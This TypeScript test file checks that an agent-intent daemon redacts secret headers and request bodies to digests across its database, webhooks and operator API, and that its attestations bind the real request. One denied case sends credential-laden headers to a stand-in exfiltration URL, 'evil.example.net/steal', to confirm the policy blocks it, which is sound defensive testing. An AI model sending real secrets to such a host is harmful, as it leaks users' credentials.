// No secrets at rest (SPEC section 10), through the real listeners: an http.request intent's secret header values
// and body never reach the SQLite files (db, -wal), webhooks or the operator API, while the attestation (fresh, an
// idempotent replay, and after a hold is approved) still binds the REAL request: intent digest and body digest.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createServer, type Server } from "node:http";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { AddressInfo } from "node:net";
import { randomBytes } from "node:crypto";
import { createLocalJWKSet, jwtVerify } from "jose";
import { http, removeDir, startTestDaemon, tempDir } from "./helpers.ts";
import { ATTESTATION_TYP, httpBodyDigest, intentDigest, sha256Digest } from "../../protocol/index.ts";

const secret = (label: string) => `${label}-${randomBytes(12).toString("hex")}`;
const S = {
  bearer: secret("bearer"),
  apiKey: secret("apikey"),
  upstream: secret("upstream"),
  cookie: secret("cookie"),
  proxyAuth: secret("proxyauth"),
  password: secret("password"),
  bodyText: secret("bodytext"),
};

let d: Awaited<ReturnType<typeof startTestDaemon>>;
let dir: string;
let hook: Server;
const received: string[] = [];
const OPERATOR = "op-token-secrets";

beforeAll(async () => {
  hook = createServer((req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      received.push(body);
      res.writeHead(200).end("ok");
    });
  });
  await new Promise<void>((r) => hook.listen(0, "127.0.0.1", r));
  const hookUrl = `http://127.0.0.1:${(hook.address() as AddressInfo).port}/hook`;
  dir = tempDir();
  writeFileSync(
    join(dir, "egress.rego"),
    'package nemoclaw.network\n\ndefault allow := false\n\nallow if input.request.host == "api.example.com"\n',
  );
  const policyFile = join(dir, "policy.yaml");
  writeFileSync(
    policyFile,
    `version: 1
network:
  modules: ["egress.rego"]
custom:
  - id: review-puts
    when: 'intent.action == "http.request"'
    hold: 'intent.params.method == "PUT"'
    reason: "PUT requests need review"
notify:
  webhooks: ["${hookUrl}"]
`,
  );
  d = await startTestDaemon({
    dataDir: join(dir, "data"),
    config: { policyFile, operatorTokens: { alice: OPERATOR } },
  });
});

afterAll(async () => {
  await d?.close();
  hook?.closeAllConnections();
  hook?.close();
  removeDir(dir);
});

function request(method: string, extra: { idempotency_key?: string } = {}) {
  return {
    agent: "web-bot",
    action: "http.request",
    params: {
      method,
      url: "https://api.example.com/v1/charges",
      headers: {
        Authorization: `Bearer ${S.bearer}`,
        "X-Api-Key": S.apiKey,
        "x-upstream-token": S.upstream,
        Cookie: `session=${S.cookie}`,
        "Proxy-Authorization": `Basic ${S.proxyAuth}`,
        "content-type": "application/json",
      },
      body: { amount: "12.00", password: S.password, note: S.bodyText },
    },
    context: {},
    ...extra,
  };
}

/** Every secret, searched in the raw bytes of the database files (the WAL holds the recent commits). */
function assertNoSecretsOnDisk() {
  const files = ["intent-sidecar.db", "intent-sidecar.db-wal"].map((f) => join(d.dataDir, f)).filter(existsSync);
  expect(files.length).toBeGreaterThan(0);
  for (const f of files) {
    const bytes = readFileSync(f);
    for (const [name, value] of Object.entries(S)) expect(bytes.includes(value), `${name} in ${f}`).toBe(false);
  }
}

function assertNoSecretsIn(text: string, where: string) {
  for (const [name, value] of Object.entries(S)) expect(text.includes(value), `${name} in ${where}`).toBe(false);
}

async function claimsOf(jws: string) {
  const jwks = (await http(`${d.url}/.well-known/jwks.json`)).body;
  return (await jwtVerify(jws, createLocalJWKSet(jwks), { typ: ATTESTATION_TYP })).payload as Record<string, any>;
}

async function until(cond: () => boolean) {
  const t = Date.now();
  while (!cond()) {
    if (Date.now() - t > 10_000) throw new Error("timed out");
    await new Promise((r) => setTimeout(r, 25));
  }
}

describe("secrets at rest", () => {
  it("an approved http.request: stored with digests and header names only; the attestation binds the real request; replay works", async () => {
    const intent = request("POST", { idempotency_key: "charge-1" });
    const res = await http(`${d.url}/v1/intents`, { body: intent });
    expect(res.status).toBe(200);
    expect(res.body.decision).toBe("APPROVED");
    const { idempotency_key: _k, ...real } = intent;
    const claims = await claimsOf(res.body.attestation);
    expect(claims.intent.digest).toBe(intentDigest(real));
    expect(claims.intent.http).toEqual({
      method: "POST",
      url: "https://api.example.com/v1/charges",
      body_digest: httpBodyDigest(real.params.body),
    });

    // the same key and the identical intent: the same decision, the same attestation bytes
    const again = await http(`${d.url}/v1/intents`, { body: intent });
    expect(again.body.intent_id).toBe(res.body.intent_id);
    expect(again.body.attestation).toBe(res.body.attestation);
    // the same key and a different secret: a different intent, refused
    const other = request("POST", { idempotency_key: "charge-1" });
    (other.params.headers as Record<string, string>)["X-Api-Key"] = "another-key";
    expect((await http(`${d.url}/v1/intents`, { body: other })).status).toBe(409);

    // the stored copy: names kept, values replaced by their digests, the body by its body digest
    const row = d.db.prepare("SELECT intent_json, digest FROM intents WHERE id = ?").get(res.body.intent_id) as {
      intent_json: string;
      digest: string;
    };
    expect(row.digest).toBe(intentDigest(real));
    const stored = JSON.parse(row.intent_json);
    expect(stored.params.headers).toEqual({
      Authorization: { redacted: sha256Digest(`Bearer ${S.bearer}`) },
      "X-Api-Key": { redacted: sha256Digest(S.apiKey) },
      "x-upstream-token": { redacted: sha256Digest(S.upstream) },
      Cookie: { redacted: sha256Digest(`session=${S.cookie}`) },
      "Proxy-Authorization": { redacted: sha256Digest(`Basic ${S.proxyAuth}`) },
      "content-type": "application/json",
    });
    expect(stored.params.body).toEqual({ redacted: httpBodyDigest(real.params.body) });
    expect(stored.redacted).toMatchObject({ digest: intentDigest(real) });
    assertNoSecretsOnDisk();
  });

  it("a held http.request: no secret in the hold, the webhooks or the operator API; the approved attestation binds the real request", async () => {
    const intent = request("PUT");
    const res = await http(`${d.url}/v1/intents`, { body: intent });
    expect(res.status).toBe(202);
    const holdId = res.body.hold.id as string;
    const op = `http://${d.operatorAddr}`;
    const shown = await http(`${op}/v1/holds/${holdId}`, { token: OPERATOR });
    expect(shown.status).toBe(200);
    expect(shown.body.intent.params.headers["content-type"]).toBe("application/json");
    expect(shown.body.intent.params.headers.Authorization).toEqual({ redacted: sha256Digest(`Bearer ${S.bearer}`) });
    assertNoSecretsIn(JSON.stringify(shown.body), "GET /v1/holds/{id}");
    assertNoSecretsIn(
      JSON.stringify((await http(`${op}/v1/holds?state=pending`, { token: OPERATOR })).body),
      "GET /v1/holds",
    );

    const ok = await http(`${op}/v1/holds/${holdId}/approve`, { body: {}, token: OPERATOR });
    expect(ok.body.state).toBe("approved");
    const got = await http(`${d.url}/v1/intents/${res.body.intent_id}`);
    expect(got.body.decision).toBe("APPROVED");
    const claims = await claimsOf(got.body.attestation);
    expect(claims.intent.digest).toBe(intentDigest(intent));
    expect(claims.intent.http.body_digest).toBe(httpBodyDigest(intent.params.body));
    expect(claims.approval.hold_id).toBe(holdId);

    await until(() => received.some((b) => b.includes('"hold.approved"')));
    expect(received.some((b) => b.includes('"hold.pending"'))).toBe(true);
    for (const b of received) assertNoSecretsIn(b, "a webhook payload");
    assertNoSecretsOnDisk();
  });

  it("a denied http.request leaves no secret either", async () => {
    const intent = request("POST");
    intent.params.url = "https://evil.example.net/steal";
    const res = await http(`${d.url}/v1/intents`, { body: intent });
    expect(res.body.decision).toBe("DENIED");
    await until(() => received.some((b) => b.includes(res.body.intent_id)));
    for (const b of received) assertNoSecretsIn(b, "a webhook payload");
    assertNoSecretsOnDisk();
  });
});
